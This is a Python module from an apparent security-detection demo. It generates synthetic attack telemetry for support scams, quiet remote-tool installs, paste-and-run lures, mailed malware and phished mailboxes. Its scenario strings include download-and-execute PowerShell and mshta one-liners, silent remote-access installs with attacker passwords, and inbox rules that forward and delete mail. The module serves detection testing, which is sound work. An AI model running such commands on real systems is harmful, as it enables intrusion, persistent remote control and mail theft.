"""People who are deceived: support scams, remote tools, commands pasted by hand, mails with malware, phishing."""

from hinomi.demo.planted.happening import Cloud, Connected, Fetched, Gate, Mailed, Started, Verdict
from hinomi.demo.planted.plots.infections import RUNS, looks_around
from hinomi.demo.planted.plots.plot import Plot
from hinomi.demo.planted.scene import Expected, Scene, expect
from hinomi.demo.programs import EDGE, EXPLORER, SYSTEM, UNREGISTERED
from hinomi.demo.websites import TECHNOLOGY, Site

TOOLS = (
    ("AnyDesk", "AnyDesk.exe", "relay-{0}.net.remote-desk.example"),
    ("TeamViewer", "TeamViewerQS.exe", "router{0}.quick-support.example"),
    ("UltraViewer", "UltraViewer_setup.exe", "relay{0}.ultra-view.example"),
    ("ScreenConnect", "ScreenConnect.ClientSetup.exe", "instance-{0}.screen-link.example"),
    ("RustDesk", "rustdesk-1.1.9.exe", "rs{0}.rust-relay.example"),
    ("LogMeIn Rescue", "LogMeInRescue.exe", "control{0}.rescue-me.example"),
)
SCAM = ("support_scam",)


def scam(scene: Scene) -> Expected:
    """A fake warning, a phone call, a tool with which the caller takes the PC over."""
    who, host, random = scene.attacker, scene.host, scene.random
    name, file, relay = random.choice(TOOLS)
    warning = who.harmful(
        f"/{random.choice(('alert', 'w', 'jp', 'scan', 'ms'))}/{who.word()}?tel=050{random.randint(1000, 9999)}"
    )
    scene.then(Connected(host, EDGE, warning, gate=Gate.BLOCKED if scene.chance(0.6) else Gate.PASSED))
    shop = Site(f"www.{name.lower().split()[0]}-dl.example", who.address(), "リモート接続", TECHNOLOGY, f"/{file}")
    scene.then(Fetched(host, EDGE, shop, file, secure=True), (300, 2400))
    tool = f"C:\\Users\\{host.user}\\Downloads\\{file}"
    said = Verdict(UNREGISTERED, scene.severity("中", "高"), "登録のない遠隔操作ソフトを実行")
    scene.then(Started(host, tool, f'"{tool}"', EDGE if scene.chance(0.5) else EXPLORER, verdict=said), (20, 300))
    end = Site(relay.format(random.randint(1, 99)), who.address(), "リモート接続", TECHNOLOGY, "/")
    for _ in range(3):
        scene.then(Connected(host, tool, end, sent=8_204_112, gate=Gate.TOOL, threat=name, seconds=1200), (30, 900))
    scene.then(Started(host, f"{SYSTEM}{random.choice(('eventvwr', 'cmd', 'notepad', 'msconfig'))}.exe", "", tool))
    return expect([host], (*SCAM, "remote_control_tool", "unregistered_application"))


def scam_seen_by_gate(scene: Scene) -> Expected:
    """The same at a company without an EDR, whose gateway blocks the page and sees the tool's traffic."""
    scam(scene)
    return expect([scene.host], (*SCAM, "remote_control_tool", "malicious_site", "forbidden_application"))


def tool_installed_quietly(scene: Scene) -> Expected:
    """Somebody who is in already makes himself a way back in: a remote-control tool with a password of his own."""
    who, host, random = scene.attacker, scene.host, scene.random
    folder, password = who.folder(host.user), who.word(4)
    path, command = random.choice(
        (
            (
                f"{folder}AnyDesk.exe",
                f"{folder}AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent",
            ),
            (f"{folder}{who.tool}", f"{folder}{who.tool} --silent-install"),
            (
                f"{SYSTEM}msiexec.exe",
                f"msiexec /i {folder}AteraAgent_{who.word()}.msi /qn IntegratorLogin={who.word()}@{who.domain()}",
            ),
            (f"{SYSTEM}msiexec.exe", f"msiexec.exe /quiet /i {who.url()}/ScreenConnect.ClientSetup.msi"),
            (f"{folder}rustdesk.exe", f"rustdesk.exe --password {password}"),
            (f"{folder}meshagent64.exe", f"{folder}meshagent64.exe -fullinstall"),
        )
    )
    shell = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe"
    scene.then(Started(host, f"{SYSTEM}cmd.exe", "cmd.exe /c whoami & hostname", shell))
    scene.then(Started(host, path, command, f"{SYSTEM}cmd.exe"))
    looks_around(scene, host, path)
    return expect([host], ("remote_control_tool", "support_scam", *RUNS))


def pasted(scene: Scene) -> Expected:
    """A page that says «press Win+R and paste» to prove that one is no robot."""
    who, host, random = scene.attacker, scene.host, scene.random
    scene.then(Connected(host, EDGE, who.site()))
    url = who.url(ending=random.choice(("", ".txt", ".ps1", ".hta")))
    shell = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe"
    path, command = random.choice(
        (
            (shell, f'"{shell}" -w h -c "iex (iwr {url} -UseBasicParsing).Content"'),
            (f"{SYSTEM}mshta.exe", f'"{SYSTEM}mshta.exe" {url} # I am not a robot: {random.randint(1000, 9999)}'),
            (
                shell,
                "powershell -NoProfile -WindowStyle Hidden -Command "
                f"\"$u='{url}';Invoke-RestMethod $u|Invoke-Expression\"",
            ),
            (f"{SYSTEM}cmd.exe", f"cmd /c start /min powershell -ep bypass -c irm {url} ^| iex"),
        )
    )
    scene.then(Started(host, path, command, EXPLORER), (20, 90))
    dropped = f"{who.folder(host.user)}{who.tool}"
    scene.then(Started(host, dropped, dropped, path))
    looks_around(scene, host, dropped)
    return expect([host], ("malicious_site", "credential_theft", *RUNS))


def mail_opened(scene: Scene) -> Expected:
    """Malware that the mail security knew and let through all the same, and that somebody opened."""
    who, host, random = scene.attacker, scene.host, scene.random
    archive = f"{who.document}.{random.choice(('zip', 'iso', 'img', '7z'))}"
    threat = f"TrojanSpy.Win32.{who.family.upper()}.{who.word().upper()}"
    scene.then(Mailed(host, f"{who.word()}@{who.domain()}", who.address(), who.subject, archive, threat))
    inner = f"{who.document}.{random.choice(('js', 'vbs', 'lnk', 'exe', 'pdf.exe', 'scr'))}"
    place = random.choice((f"C:\\Users\\{host.user}\\AppData\\Local\\Temp\\Temp1_{archive}\\{inner}", f"E:\\{inner}"))
    runner = f"{SYSTEM}wscript.exe" if inner.endswith(("js", "vbs")) else place
    said = Verdict(UNREGISTERED, scene.severity("中", "高")) if scene.chance(0.5) else None
    scene.then(
        Started(host, runner, f'"{runner}" "{place}"' if runner != place else place, EXPLORER, verdict=said),
        (100, 4000),
    )
    path, command = who.stager(host.user)
    scene.then(Started(host, path, command, runner))
    return expect([host], ("mail_malware", "malware_chain", "unregistered_application", *RUNS))


def mail_with_malware(scene: Scene) -> Expected:
    """The same at a company whose mail security is its only sensor: nobody saw whether it was opened."""
    who, host = scene.attacker, scene.host
    scene.then(
        Mailed(
            host,
            f"{who.word()}@{who.domain()}",
            who.address(),
            who.subject,
            f"{who.document}.zip",
            f"Trojan.{who.family.upper()}.{who.word().upper()}",
        )
    )
    return expect([host], ("mail_malware",))


def phished(scene: Scene) -> Expected:
    """A password given away on a false page, and used within minutes from elsewhere."""
    who, host, random = scene.attacker, scene.host, scene.random
    page = who.harmful(f"/{random.choice(('owa', 'office', 'login', 'o365'))}/{who.word()}")
    scene.then(Connected(host, EDGE, page))
    stranger = who.address()
    if scene.chance(0.5):
        scene.then(Cloud(host.mail, "UserLoginFailed", stranger, failed=True), (300, 2000))
    scene.then(
        Cloud(
            host.mail,
            "UserLoggedIn",
            stranger,
            (
                (
                    "UserAgent",
                    random.choice(("axios/1.2.1", "python-requests/2.28.1", "Mozilla/5.0 (X11; Linux x86_64)")),
                ),
            ),
        ),
        (60, 900),
    )
    outside = f"{who.word()}@{who.domain()}"
    operation, details = random.choice(
        (
            (
                "New-InboxRule",
                (
                    ("Name", random.choice((".", "..", "a"))),
                    ("SubjectContainsWords", "請求;invoice;振込;支払"),
                    ("MoveToFolder", "RSS Feeds"),
                    ("MarkAsRead", "True"),
                ),
            ),
            ("New-InboxRule", (("Name", who.word()), ("ForwardTo", outside), ("DeleteMessage", "True"))),
            ("Set-InboxRule", (("Name", "."), ("From", "keiri"), ("DeleteMessage", "True"))),
        )
    )
    scene.then(Cloud(host.mail, operation, stranger, details), (100, 1800))
    return expect([host], ("account_takeover", "unusual_sign_in"))


PLOTS = (
    Plot("support scam, both", scam, ("edr", "utm")),
    Plot("support scam, UTM alone", scam_seen_by_gate, ("fortinet_fortigate",), without=("edr",)),
    Plot("remote tool installed quietly", tool_installed_quietly, ("edr",)),
    Plot("command pasted by hand", pasted, ("edr",)),
    Plot("mail with malware opened", mail_opened, ("edr", "mail")),
    Plot("mail with malware delivered", mail_with_malware, ("mail",), without=("edr",)),
    Plot("mailbox taken over after phishing", phished, ("cloud",)),
)
